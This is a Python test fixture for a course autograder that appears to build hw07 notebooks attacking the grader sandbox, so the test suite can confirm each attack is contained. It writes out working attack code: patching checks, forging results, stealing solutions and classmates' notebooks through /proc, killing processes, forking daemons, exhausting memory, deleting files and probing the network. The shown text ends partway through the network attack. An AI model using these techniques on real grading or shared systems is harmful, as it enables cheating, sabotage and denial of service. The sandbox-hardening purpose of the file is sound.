"""Notebooks that attack the grader, each on top of known wrong answers.

`base_notebook` is the solution with one value-visible misconception per graded question (BASE), so every
question has points to win; its honest score is what grading it without any attack gives. Each attack
is that base plus one technique (ATTACKS), in the classes of issue 9: raising the score, harming
classmates, leaking grader files, outliving the batch, and knocking the host over. No attack may score
above the base, change a classmate's row, leak a canary, leave a process or touch a file outside its
sandbox. Used by test_attacks.py and tamper_report.py beside it.

Attack code is written with placeholders the test fills in (an attacker who knows the TA's layout):
@SUBS@ submissions folder, @OUT@ output folder, @REPO@ repository, @TAG@ a per-run tag of 6 hex digits (files
an attack drops outside its sandbox are named cka-@TAG@-*), @HOSTUID@ the uid running the grader, @ID@ the attack.
Every attack notebook names its processes cka-<tag>-<id> (prctl), so survivors are found by name. Everything is
bounded (memory, forks, bytes written, time) so that a broken sandbox cannot take the machine down with it.
"""
from __future__ import annotations

import copy
import os
from dataclasses import dataclass
from pathlib import Path

import nbformat

from coursekit import harness

ASSIGNMENT = "hw07"   # the base and the attacks are written against this assignment's graded names

# One wrong answer per graded question, each visible in values (not only in a memory figure measured in
# the sandbox, which a submission can distort there: a residual risk the README states). Written out here,
# not taken from the misconception catalogue, so the base stays fixed while the catalogue evolves.
BASE = {
    "q1": """
def evaluate(model, batches, loss_fn):
    was_training = model.training
    model.eval()
    with torch.no_grad():
        means = [loss_fn(model(xb), yb).item() for xb, yb in batches]  # mean of batch means
    model.train(was_training)
    return sum(means) / len(means)
""",
    "q2": """
def batched_linear(X, W, b):
    return X @ W + b  # W is (h, d): needs W.T
""",
    "q3": """
def pointwise_mse(predictions, targets):
    return (predictions - targets).square().mean()  # (B, 1) - (B,) broadcasts to (B, B)
""",
    "q4": """
def adam_static_bytes(model):
    return 16 * sum(p.numel() for p in model.parameters())  # ignores dtype and frozen parameters
""",
    "q5": """
def accumulate_gradients(model, x, y, micro_batch_size, loss_fn=F.cross_entropy):
    chunks = list(zip(x.split(micro_batch_size), y.split(micro_batch_size)))
    total = 0.0
    for xb, yb in chunks:
        loss = loss_fn(model(xb), yb) / len(chunks)  # wrong for an uneven last microbatch
        loss.backward()
        total += loss.item()
    return total
""",
    "q6": """
def lm_loss(logits, targets, pad_id=None):
    return F.cross_entropy(logits.reshape(-1, logits.size(-1)), targets.reshape(-1))  # padding counted
""",
    "q7": """
def surprisal_bits(logits, targets, pad_id=None):
    nats = -F.log_softmax(logits, dim=-1).gather(-1, targets.unsqueeze(-1)).squeeze(-1)  # nats, not bits
    real = torch.ones_like(targets, dtype=torch.bool) if pad_id is None else targets != pad_id
    return nats[real]
""",
    "q8a": "Q8_UNMASKED_PPL = 20.0  # the real-target perplexity\n",
    "q8b": "Q8_PADDING_DIRECTION = \"a\"\n",
}

GRADED = ("train_step evaluate SWITCHES embed batched_linear linear_macs broadcast_shape pointwise_mse "
          "broadcast_bug_minimizer matmul_shape adam_static_bytes saved_activation_bytes memory_timeline "
          "plot_memory_timeline OOM_CAUSE accumulate_gradients accumulated_train_step checkpointed_forward "
          "shift_for_next_token lm_loss perplexity accumulate_lm_gradients surprisal_bits worst_token "
          "plot_surprisal Q8_UNMASKED_PPL Q8_N_TARGETS Q8_ACCUMULATED_LOSS Q8_LOSS_NATS Q8_PPL_FROM_BITS "
          "Q8_PADDING_DIRECTION Q8_OOM_CAUSE Q8_NO_SHIFT Q8_CORRECT_LOSSES").split()

# Text that exists only in grader files: none of it may appear anywhere in OUT.
HIDDEN_MARKERS = ("def _reference_evaluate", "def _check_train_step", "q1.check_evaluate_memory(evaluate)")


@dataclass(frozen=True)
class Attack:
    id: str
    kind: str      # score | classmates | leak | processes | host
    where: str     # first (after the imports cell) | last (before the export cell) | replace (definitions)
    source: str
    note: str
    slow: bool = False   # costs a timeout or much time: only in the full (slow) corpus


@dataclass(frozen=True)
class Context:
    subs: Path
    out: Path
    tag: str
    repo: Path = Path(__file__).resolve().parent.parent
    host_uid: int = os.getuid()


def base_notebook(solution):
    nb = solution
    for source in BASE.values():
        nb = harness.inject(nb, source)
    return nb


def classmate_notebook(solution, name: str, canary: str):
    """An honest full-mark classmate whose notebook carries a canary no other row may ever show."""
    nb = copy.deepcopy(solution)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(f"{name}'s notebook. {canary}"))
    nb.cells.append(nbformat.v4.new_code_cell(f"# {canary}\nprint('{name} was here')"))
    return nb


def _render(source: str, attack: Attack, ctx: Context) -> str:
    for key, value in {"@SUBS@": str(ctx.subs), "@OUT@": str(ctx.out), "@REPO@": str(ctx.repo),
                       "@TAG@": ctx.tag, "@HOSTUID@": str(ctx.host_uid), "@ID@": attack.id}.items():
        source = source.replace(key, value)
    return source.strip("\n")


def _imports_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "import torch" in c.source) + 1


def _export_index(nb) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "grader.export" in c.source)


NAME_PROCESSES = '''
import ctypes as _cka_ctypes
try:  # every process of this notebook, and every process it forks, is named cka-<tag>-<attack>
    _cka_ctypes.CDLL(None).prctl(15, b"cka-@TAG@-@ID@"[:15], 0, 0, 0)
except Exception:
    pass
'''


def attacked(base, attack: Attack, ctx: Context):
    nb = harness.inject(base, _render(attack.source, attack, ctx)) if attack.where == "replace" \
        else copy.deepcopy(base)
    if attack.where in ("first", "last"):
        cell = nbformat.v4.new_code_cell(_render(attack.source, attack, ctx))
        nb.cells.insert(_imports_index(nb) if attack.where == "first" else _export_index(nb), cell)
    nb.cells.insert(_imports_index(nb), nbformat.v4.new_code_cell(_render(NAME_PROCESSES, attack, ctx)))
    return nb


# ----------------------------------------------------------------------------- shared attack code

_STEAL = '''
import ast as _ast, glob as _glob, json as _json, os as _os, sys as _sys, zipfile as _zipfile
from pathlib import Path as _Path

_GRADED = set(%r)


def _steal_from(path):
    """Run another notebook's definitions and take its graded names. True when something was taken."""
    try:
        raw = _Path(path).read_bytes()
        if b"cka-" in raw:
            return False  # an attack notebook (our own included)
        if raw[:2] == b"PK":
            with _zipfile.ZipFile(path) as zf:
                raw = next(zf.read(n) for n in zf.namelist() if n.endswith(".ipynb"))
        cells = [c for c in _json.loads(raw)["cells"] if c["cell_type"] == "code"]
    except Exception:
        return False
    scope = dict(globals())
    for cell in cells:
        source = "".join(cell["source"])
        try:
            tree = _ast.parse(source)
        except SyntaxError:
            continue
        keep = [n for n in tree.body if isinstance(n, (_ast.Import, _ast.ImportFrom, _ast.FunctionDef,
                                                       _ast.ClassDef, _ast.Assign))]
        try:
            exec(compile(_ast.Module(keep, []), "<stolen>", "exec"), scope)
        except Exception:
            pass
    taken = [n for n in _GRADED if n in scope and scope[n] is not globals().get(n)]
    globals().update({n: scope[n] for n in taken})
    print(f"stole {len(taken)} answers from {path}")
    return bool(taken)


def _notebooks_under(folder, depth=3):
    found = []
    for d in range(depth + 1):
        found += _glob.glob(str(_Path(folder)) + "/*" * d + "/*.ipynb") + _glob.glob(str(_Path(folder)) + "/*" * d + "/*.zip")
    return found


def _solutions_near(path):
    """solutions/hw07/hw07.ipynb in path or any folder above it."""
    p = _Path(path)
    return [str(q / "solutions" / "hw07" / "hw07.ipynb") for q in [p, *p.parents]]
''' % (GRADED,)


def _steal(candidates_code: str) -> str:
    return _STEAL + candidates_code + '''
for _candidate in sorted(_candidates, key=lambda c: "classmate" not in c):  # the best students first
    if _os.path.exists(_candidate) and _steal_from(_candidate):
        break
'''


_PROC_PIDS = "[p for p in _os.listdir('/proc') if p.isdigit()]"
# Attacks that would hurt a shared machine (other users' files, processes, sockets) fire only where they run
# as another uid in their own pid namespace (`os.getuid() != @HOSTUID@ and os.getpid() < 1000`); elsewhere
# they stay inside the test's own folders.


def _bounded_fork_children(body: str, n: int) -> str:
    return f'''
import os as _os, time as _time
_children = []
for _i in range({n}):
    try:
        _pid = _os.fork()
    except OSError as _exc:  # the process limit: what we want to see
        print("fork refused after", _i, "children:", _exc)
        break
    if _pid == 0:
        try:
{body}
        finally:
            _os._exit(0)
    _children.append(_pid)
print("forked", len(_children), "children")
'''


ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ score: tamper with what judges
    Attack("patch-comparisons", "score", "first", '''
import math, torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
math.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros((), dtype=torch.bool)
''', "patches every comparison function a check could use"),
    Attack("swap-code-everywhere", "score", "first", '''
import sys, types


def _yes(*args, **kwargs):
    return True


_swapped = 0
for _name, _module in list(sys.modules.items()):
    if not any(k in _name for k in ("check", "coursekit", "otter", "fixtures", "probe", "examiner", "sandbox",
                                    "worker", "grad", "_common")):
        continue
    for _value in list(vars(_module).values()):
        for _fn in [_value] + ([v for v in vars(_value).values()] if isinstance(_value, type) else []):
            if isinstance(_fn, types.FunctionType) and not _fn.__code__.co_freevars:
                try:
                    _fn.__code__ = _yes.__code__
                    _swapped += 1
                except Exception:
                    pass
try:
    import hw07_checks, hw07_checks._common as _c
    for _m in list(sys.modules.values()):
        if getattr(_m, "__name__", "").startswith("hw07_checks"):
            for _fn in vars(_m).values():
                if isinstance(_fn, types.FunctionType) and not _fn.__code__.co_freevars:
                    _fn.__code__ = _yes.__code__
                    _swapped += 1
except Exception as _exc:
    print("no hw07_checks here:", type(_exc).__name__)
print("swapped the __code__ of", _swapped, "functions")
''', "swaps the __code__ of every check, otter and grader function it can reach"),
    Attack("swap-code-torch", "score", "first", '''
import torch.nn.functional as F, torch.testing, types
def _nothing(*args, **kwargs):
    return None
for _fn in (torch.testing.assert_close, F.mse_loss, F.cross_entropy, F.log_softmax):
    if isinstance(_fn, types.FunctionType):
        try:
            _fn.__code__ = (lambda *a, **k: torch.zeros(())).__code__
        except Exception as _exc:
            print("cannot swap", _fn.__name__, _exc)
''', "swaps the __code__ of torch's Python-level functions in its own process"),
    Attack("sys-modules-hijack", "score", "first", '''
import sys, types
class _Anything(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _Anything(name)
    def __call__(self, *args, **kwargs):
        return None
for _name in ["hw07_checks", "hw07_checks._common", "fixtures", "_probe", "memprobe", "otter.test_files",
              *[f"hw07_checks.q{i}" for i in range(1, 9)], "hw07_checks.fixtures", "hw07_checks._probe"]:
    _fake = _Anything(_name)
    _fake.__path__ = []
    sys.modules[_name] = _fake
''', "replaces the check, fixture and otter modules with modules that accept anything"),
    Attack("patch-memprobe", "score", "first", '''
import torch, sys
torch.cuda.max_memory_allocated = lambda *a, **k: 0
torch.cuda.memory_allocated = lambda *a, **k: 0
for _name in ("memprobe", "_probe", "hw07_checks._probe", "fixtures", "hw07_checks.fixtures"):
    try:
        _m = __import__(_name, fromlist=["x"])
    except Exception:
        continue
    for _attr in dir(_m):
        if "peak" in _attr or "live" in _attr or "bytes" in _attr:
            try:
                setattr(_m, _attr, lambda *a, **k: (None, 0, 0))
            except Exception:
                pass
    if hasattr(_m, "MemoryProbe"):
        _m.MemoryProbe.peak_bytes = lambda self: 0
        _m.MemoryProbe.live_bytes = lambda self: 0
''', "makes the in-sandbox memory probe report nothing (the base's mistakes show in values, so no gain)"),
    Attack("patch-builtins", "score", "first", '''
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.len = lambda x: 0
''', "patches builtins the checks and the runner use", slow=True),
    Attack("patch-otter", "score", "first", '''
try:
    import otter.test_files.exception_test as _et
    _et.test_case.call_func = lambda self, env: None
    from otter.test_files import abstract_test as _at
    _at.TestFile.passed_all = property(lambda self: True)
    _at.TestFile.score = property(lambda self: self.possible)
    _at.TestFile.grade = property(lambda self: 1.0)
except Exception as _exc:
    print("no otter internals:", _exc)
''', "patches otter's test runner (only otter's in-kernel column may move, and then it is flagged)"),
    Attack("wrap-json-dump", "score", "first", '''
import json, pickle
_real_dump, _real_dumps, _real_pickle = json.dump, json.dumps, pickle.dump


def _inflate(obj):
    if isinstance(obj, dict):
        out = {k: _inflate(v) for k, v in obj.items()}
        for key in ("max_score", "possible", "points"):
            if isinstance(out.get(key), (int, float)):
                out[key] = out[key] * 10
        for key in ("score", "total", "passed"):
            if isinstance(out.get(key), bool):
                out[key] = True
            elif isinstance(out.get(key), (int, float)):
                out[key] = 1000
        return out
    if isinstance(obj, (list, tuple)):
        return [_inflate(v) for v in obj]
    return obj


json.dump = lambda obj, fp, *a, **k: _real_dump(_inflate(obj), fp, *a, **k)
json.dumps = lambda obj, *a, **k: _real_dumps(_inflate(obj), *a, **k)
pickle.dump = lambda obj, fp, *a, **k: _real_pickle(obj, fp, *a, **k)
''', "wraps json.dump/dumps so every result it writes claims 10x the points and full scores"),
    Attack("fake-results-then-exit", "score", "last", '''
import json, os
_fake = {"tests": [{"name": q, "score": 100, "max_score": 10} for q in
                   ["q1", "q2", "q3", "q4", "q5", "q6", "q7", "q8a", "q8b"]], "score": 730}
for _p in ["results.json", "../results/results.json", "/autograder/results/results.json", "@OUT@/results.json"]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_p)), exist_ok=True)
        open(_p, "w").write(json.dumps(_fake))
    except OSError:
        pass
os._exit(0)
''', "writes forged results where otter and the grader look, then exits"),
    Attack("forge-out", "score", "last", '''
import glob, json, os
for _out in ["@OUT@", "../out", "../../out", os.path.expanduser("~/out")]:
    for _path in glob.glob(_out + "/records/*.json"):
        try:
            _r = json.load(open(_path))
            _r["total"] = _r.get("possible", 73)
            _r["status"] = "graded"
            json.dump(_r, open(_path, "w"))
        except Exception:
            pass
    for _name in ("grades.csv", "cka-@TAG@-forged", "records/cka-@TAG@.json", ".key"):
        try:
            with open(os.path.join(_out, _name), "w") as _f:
                _f.write("forged by cka-@ID@\\n")
        except OSError:
            pass
''', "rewrites OUT's records, grades.csv and MAC key"),
    Attack("frame-peek", "score", "replace", '''
def pointwise_mse(predictions, targets):
    import gc, sys
    for _frame in list(sys._current_frames().values()):
        f = _frame
        while f is not None:
            for key in ("expected", "reference", "ref", "want"):
                value = f.f_locals.get(key)
                if isinstance(value, torch.Tensor) and value.dim() == 0:
                    return value.clone()
            f = f.f_back
    for obj in gc.get_objects():
        if type(obj) is dict and "expected" in obj and isinstance(obj["expected"], torch.Tensor):
            return obj["expected"].clone()
    return (predictions - targets).square().mean()
''', "pointwise_mse hunts the checker's frames and heap for an expected value; falls back to the base's bug"),
    Attack("gc-steal-reference", "score", "replace", '''
def evaluate(model, batches, loss_fn):
    import gc
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "_reference_evaluate":
            return obj(model, batches, loss_fn)
    was_training = model.training
    model.eval()
    with torch.no_grad():
        means = [loss_fn(model(xb), yb).item() for xb, yb in batches]
    model.train(was_training)
    return sum(means) / len(means)
''', "evaluate calls the checks' own reference when it can find it on the heap (otter's pass imports it)"),
    Attack("stdout-forgery", "score", "first", '''
import json, sys
_lines = ['{"body": 0, "sig": "0"}', json.dumps({"type": "result", "ok": True, "score": 73, "possible": 73}),
          "Total Score: 73.000 / 73.000 (100.000%)", json.dumps({"tests": [{"name": "q1", "score": 10}]})]
for _line in _lines * 50:
    print(_line)
    print(_line, file=sys.stderr)
sys.stdout.flush()
''', "prints lines that look like the grader's and otter's protocol and results"),
    Attack("channel-garbage", "host", "first", '''
import fcntl, json, os, stat, time
_junk = [b'{"body": 0, "sig": "0"}\\n', b"[" * 1_000_000 + b"\\n", b"\\xff\\xfe\\x00garbage\\n",
         json.dumps({"id": 1, "ok": True, "value": 73, "result": {"passed": True}}).encode() + b"\\n",
         b"A" * (32 << 20)]
_deadline = time.monotonic() + 5
for _fd in range(0, 256):
    try:
        _mode = os.fstat(_fd).st_mode
    except OSError:
        continue
    if not (stat.S_ISFIFO(_mode) or stat.S_ISSOCK(_mode)):
        continue
    try:
        fcntl.fcntl(_fd, fcntl.F_SETFL, fcntl.fcntl(_fd, fcntl.F_GETFL) | os.O_NONBLOCK)
        for _chunk in _junk:
            _view = memoryview(_chunk)
            while _view and time.monotonic() < _deadline:
                try:
                    _view = _view[os.write(_fd, _view):]
                except BlockingIOError:
                    time.sleep(0.01)
    except OSError:
        pass
''', "writes malformed, deeply nested, oversized and forged messages into every pipe and socket it holds"),
    Attack("close-all-fds", "host", "first", '''
import os
_null = os.open(os.devnull, os.O_RDWR)
for _fd in range(3, 1024):
    if _fd != _null:
        try:
            os.dup2(_null, _fd)
        except OSError:
            pass
''', "points every inherited descriptor at /dev/null: the channel is gone (its own error only)"),
    # ------------------------------------------------------------------ score: take someone else's answers
    Attack("steal-via-sys-executable", "score", "last", _steal('''
_candidates = _solutions_near(_Path(_sys.executable).resolve()) + _solutions_near(_sys.prefix) \\
    + _solutions_near(_os.path.realpath(_sys.executable))
'''), "execs the repository's solutions notebook, found above sys.executable"),
    Attack("steal-via-proc-cwd", "score", "last", _steal('''
_candidates, _pid = [], _os.getpid()
for _ in range(64):
    try:
        _status = open(f"/proc/{_pid}/status").read()
        _pid = int(_status.split("PPid:")[1].split()[0])
        _candidates += _solutions_near(_os.readlink(f"/proc/{_pid}/cwd"))
    except Exception:
        break
for _p in %s:
    try:
        _candidates += _solutions_near(_os.readlink(f"/proc/{_p}/cwd"))
    except OSError:
        pass
''' % _PROC_PIDS), "execs the solutions notebook found from /proc/<ppid>/cwd and every visible process's cwd"),
    Attack("steal-via-environ", "score", "last", _steal('''
_candidates = []
_values = list(_os.environ.values())
for _p in %s:
    try:
        _values += open(f"/proc/{_p}/environ", "rb").read().decode(errors="replace").split("\\0")
    except OSError:
        pass
for _value in _values:
    for _part in _value.split("=")[-1].split(":"):
        if _part.startswith("/"):
            _candidates += _solutions_near(_part)
''' % _PROC_PIDS), "execs the solutions notebook found from paths in environment variables"),
    Attack("steal-via-absolute-paths", "score", "last", _steal('''
_candidates = ["@REPO@/solutions/hw07/hw07.ipynb", "/work/main/solutions/hw07/hw07.ipynb",
               "/autograder/source/solutions/hw07.ipynb", _os.path.expanduser("~/solutions/hw07/hw07.ipynb")]
_candidates += _glob.glob("/*/*/solutions/hw07/hw07.ipynb") + _glob.glob("/*/*/*/solutions/hw07/hw07.ipynb")
_candidates += _glob.glob("/tmp/*/solutions/hw07/hw07.ipynb") + _glob.glob("/tmp/*/*/solutions/hw07/hw07.ipynb")
'''), "execs the solutions notebook at absolute paths (the repository, /work/main, /tmp trial builds)"),
    Attack("steal-from-classmates", "score", "last", _steal('''
_candidates = _notebooks_under("@SUBS@", 1) + _notebooks_under(_os.getcwd() + "/..", 2) \\
    + _notebooks_under("/tmp", 3)
'''), "execs a classmate's notebook from SUBMISSIONS, the folder above, or a temporary folder"),
    Attack("steal-checks-reference", "score", "last", '''
import glob, os, sys, zipfile
_roots = ["@REPO@/assignments/hw07/checks", "/autograder/source", os.getcwd(), os.getcwd() + "/..",
          *[p for p in sys.path if p]] + glob.glob("/tmp/*") + glob.glob("/tmp/*/*")
for _zip in glob.glob("@REPO@/autograder/hw07/*.zip") + glob.glob("/tmp/*/*.zip"):
    try:
        zipfile.ZipFile(_zip).extractall(f"/tmp/cka-@TAG@-unzipped-{os.getpid()}")
        _roots.append(f"/tmp/cka-@TAG@-unzipped-{os.getpid()}")
    except Exception:
        pass
for _root in _roots:
    if os.path.isdir(os.path.join(_root, "hw07_checks")):
        sys.path[:0] = [_root]
        try:
            from hw07_checks import q1 as _q1
            evaluate = _q1._reference_evaluate
            print("took the reference evaluate from", _root)
            break
        except Exception as _exc:
            print("cannot import the checks from", _root, _exc)
''', "imports the hidden checks (repository, autograder zip) and uses their reference evaluate"),
    # ------------------------------------------------------------------ classmates
    Attack("edit-classmates", "classmates", "first", '''
import glob, os
_folders = ["@SUBS@"] + ([os.getcwd() + "/..", os.getcwd() + "/../..", "/tmp"] if (os.getuid() != @HOSTUID@ and os.getpid() < 1000) else [])
for _folder in _folders:
    for _path in glob.glob(_folder + "/*.ipynb") + glob.glob(_folder + "/*/*.ipynb") + glob.glob(_folder + "/*.zip"):
        try:
            if "cka-@ID@" in open(_path, errors="replace").read():
                continue
            with open(_path, "w") as _f:
                _f.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
            print("emptied", _path)
        except OSError:
            pass
        try:
            os.utime(_path, (0, 0))
            os.rename(_path, _path + ".cka-moved")
        except OSError:
            pass
''', "empties, renames and back-dates classmates' files in SUBMISSIONS"),
    Attack("poison-shared-checks", "classmates", "first", '''
import glob, os, time
_since = time.time() - 3600
_names = ("_common.py", "fixtures.py", "_probe.py", "memprobe.py", "q1.py", "q3.py")
_sandboxed = os.getuid() != @HOSTUID@ and os.getpid() < 1000
for _root in (["/tmp", "/var/tmp", "/dev/shm", os.getcwd() + "/.."] if _sandboxed else []) + ["@OUT@", "@SUBS@"]:
    for _depth in range(1, 6):
        for _path in glob.glob(_root + "/*" * _depth):
            if os.path.basename(_path) not in _names or os.path.dirname(os.path.abspath(_path)) == os.getcwd():
                continue
            try:
                if os.stat(_path).st_mtime < _since or "hw07" not in open(_path).read(4096) and "probe" not in _path:
                    continue
                with open(_path, "a") as _f:
                    _f.write("\\nraise ImportError('cka-poisoned by a classmate')\\n")
                print("poisoned", _path)
            except OSError:
                pass
''', "appends a failing line to check, fixture and probe modules of other sandboxes it can find"),
    Attack("kill-pid-range", "classmates", "first", '''
import os, signal
if os.getuid() != @HOSTUID@ and os.getpid() < 1000:  # only in a sandbox: never run this on a host
    _killed = 0
    for _pid in range(1, 4096):
        if _pid != os.getpid():
            try:
                os.kill(_pid, signal.SIGKILL)
                _killed += 1
            except OSError:
                pass
    print("SIGKILL delivered to", _killed, "processes")
else:
    print("not in a uid- and pid-isolated sandbox: refusing to kill by pid range")
''', "SIGKILLs every pid it can (only where it runs as another uid in its own pid namespace)"),
    Attack("kill-batch", "classmates", "first", '''
import os, signal
_me = {os.getpid(), os.getppid()}
_killed = []
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _environ = open(f"/proc/{_pid}/environ", "rb").read()
        _cmdline = open(f"/proc/{_pid}/cmdline", "rb").read()
    except OSError:
        continue
    if int(_pid) in _me or b"pytest" in _cmdline:
        continue
    if b"COURSEKIT_TEST_BATCH=@TAG@" in _environ or b"cka-@TAG@" in _cmdline:
        try:
            os.kill(int(_pid), signal.SIGKILL)
            _killed.append(_pid)
        except OSError:
            pass
print("killed", _killed)
''', "SIGKILLs every process of this grading batch it can see in /proc (kernels, examiners, the grader)"),
    # ------------------------------------------------------------------ processes that try to outlive the batch
    Attack("setsid-daemon", "processes", "first", '''
import glob, os, signal, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(_sig, signal.SIG_IGN)
        _null = os.open(os.devnull, os.O_RDWR)
        for _fd in range(0, 256):
            if _fd != _null:
                try:
                    os.dup2(_null, _fd)
                except OSError:
                    pass
        time.sleep(8)  # until the batch is over
        for _ in range(60):
            for _path in ["@OUT@/grades.csv", *glob.glob("@OUT@/records/*.json"), *glob.glob("@OUT@/feedback/*.md"),
                          "@OUT@/cka-@TAG@-daemon", *glob.glob("@SUBS@/*")]:
                try:
                    with open(_path, "a") as _f:
                        _f.write("\\nforged later by a daemon\\n")
                except OSError:
                    pass
            time.sleep(2)
    os._exit(0)
import subprocess
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # cka-@TAG@-sleeper"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''', "a double-forked setsid daemon that ignores SIGTERM and rewrites OUT and SUBMISSIONS later"),
    Attack("fork-bomb", "processes", "first", _bounded_fork_children('''
            _time.sleep(300)''', 400), "forks up to 400 sleeping children (bounded)"),
    Attack("memory-bomb-forked", "host", "first", _bounded_fork_children('''
            _held = []
            for _ in range(6):  # 1.5 GiB per child at most
                _held.append(b"x" * (256 << 20))
            _time.sleep(10)''', 4) + '''
for _pid in _children:
    _os.waitpid(_pid, 0)
''', "four children allocate 1.5 GiB each: the memory limit must cover all of a sandbox's processes"),
    # ------------------------------------------------------------------ host
    Attack("memory-bomb", "host", "first", '''
import resource
for _limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
_held = []
try:
    for _ in range(24):  # 6 GiB at most
        _held.append(b"x" * (256 << 20))
except MemoryError:
    print("MemoryError after", len(_held) * 256, "MiB")
del _held
''', "raises its rlimits if it can, then allocates until MemoryError (6 GiB at most)"),
    Attack("memory-in-graded-function", "host", "replace", '''
def evaluate(model, batches, loss_fn):
    held = []
    try:
        for _ in range(24):  # 6 GiB at most
            held.append(bytearray(256 << 20))
            held[-1][::4096] = b"x" * len(held[-1][::4096])
    except MemoryError:
        pass
    raise MemoryError(f"held {len(held)} blocks")
''', "evaluate allocates until MemoryError whenever it is called"),
    Attack("huge-stdout", "host", "first", '''
import sys
_line = "y" * 1023 + "\\n"
for _ in range(300 * 1024):  # 300 MB
    sys.stdout.write(_line)
sys.stdout.flush()
''', "prints 300 MB"),
    Attack("huge-error-output", "host", "first", '''
import sys
for _ in range(100):
    sys.stderr.write("e" * (1 << 20) + "\\n")  # 100 MB on stderr
raise RuntimeError("boom " + "z" * (100 << 20))   # and a 100 MB error message in the cell's error output
''', "writes 100 MB to stderr and raises an exception with a 100 MB message"),
    Attack("huge-rich-output", "host", "first", '''
try:
    from IPython.display import HTML, display
    for _ in range(4):
        display(HTML("<b>" + "h" * (50 << 20) + "</b>"))
except ImportError:
    print("no IPython display here")
''', "displays 200 MB of rich (HTML) output"),
    Attack("loop-at-import", "host", "first", "while True:\n    pass", "spins forever in a top-level cell",
           slow=True),
    Attack("loop-in-graded-function", "host", "replace", '''
def evaluate(model, batches, loss_fn):
    while True:
        pass
''', "evaluate never returns", slow=True),
    Attack("signals-ignored-then-loop", "host", "last", '''
import signal
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(_sig, signal.SIG_IGN)
while True:
    pass
''', "ignores every catchable signal, then spins", slow=True),
    Attack("os-exit-early", "host", "first", "import os\nos._exit(0)", "exits the process right after the imports"),
    Attack("os-exit-in-function", "host", "replace", '''
def batched_linear(X, W, b):
    import os
    os._exit(3)
''', "batched_linear kills its own process when the examiner calls it"),
    Attack("sys-exit", "host", "last", "import sys\nsys.exit(0)", "sys.exit(0) after the definitions"),
    Attack("keyboard-interrupt", "host", "first", '''
import os, signal
try:
    signal.raise_signal(signal.SIGINT)
except KeyboardInterrupt:
    pass
raise KeyboardInterrupt
''', "raises SIGINT and KeyboardInterrupt in a cell"),
    Attack("baseexception-in-functions", "host", "replace", '''
def pointwise_mse(predictions, targets):
    raise KeyboardInterrupt


def broadcast_shape(a, b):
    raise SystemExit(0)


def surprisal_bits(logits, targets, pad_id=None):
    class Weird(BaseException):
        pass
    raise Weird("x" * 10_000_000)
''', "graded functions raise KeyboardInterrupt, SystemExit and a 10 MB BaseException subclass"),
    Attack("delete-own-files", "host", "first", '''
import os, shutil, sys
_sandboxed = os.getuid() != @HOSTUID@ and os.getpid() < 1000
for _root in [os.getcwd(), os.getcwd() + "/..", "/tmp", os.path.expanduser("~")] if _sandboxed else []:
    for _entry in os.listdir(_root) if os.path.isdir(_root) else []:
        _path = os.path.join(_root, _entry)
        try:
            shutil.rmtree(_path) if os.path.isdir(_path) and not os.path.islink(_path) else os.unlink(_path)
        except OSError:
            pass
for _name in [n for n in sys.modules if "probe" in n or "fixtures" in n]:
    del sys.modules[_name]
if not _sandboxed:
    print("not in a uid- and pid-isolated sandbox: deleting nothing")
''', "deletes everything it can in its folder, the folder above, /tmp and home"),
    Attack("write-outside", "host", "first", '''
import os
for _folder in ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "@REPO@", "@REPO@/solutions/hw07",
                "@REPO@/autograder/hw07", "@SUBS@", "@OUT@", "@OUT@/records", os.getcwd() + "/..", "/"]:
    try:
        with open(os.path.join(_folder, "cka-@TAG@-written"), "w") as _f:
            _f.write("escaped")
        print("wrote into", _folder)
    except OSError:
        pass
''', "drops a file in every host folder it can name"),
    Attack("symlink-traps", "host", "first", '''
import os
for _name, _target in [("results.json", "/dev/zero"), ("results.pkl", "@OUT@/.key"), ("output.txt", "/dev/urandom"),
                       ("hw07.ipynb.json", "@SUBS@"), ("notebook.ipynb", "/proc/self/mem")]:
    try:
        if os.path.lexists(_name):
            os.unlink(_name)
        os.symlink(_target, _name)
    except OSError:
        pass
try:
    os.mkfifo("stdout.txt")
except OSError:
    pass
''', "leaves symlinks to /dev/zero and OUT/.key and a FIFO under the names a grader might read"),
    Attack("network", "host", "first", '''
import glob, os, socket
_reached = []
for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("example.com", 80), ("pypi.org", 443)]:
    try:
        socket.create_connection((_host, _port), timeout=2).close()
        _reached.append(f"{_host}:{_port}")
    except OSError:
        pass
_sandboxed = os.getuid() != @HOSTUID@ and os.getpid() < 1000
for _table in ("/proc/net/tcp", "/proc/net/tcp6") if _sandboxed else ():
    try:
        for _line in open(_table).read().splitlines()[1:]:
            _local, _state = _line.split()[1], _line.split()[3]
            if _state == "0A":  # listening
                _port = int(_local.split(":")[1], 16)
                try:
                    _s = socket.create_connection(("127.0.0.1", _port), timeout=1)
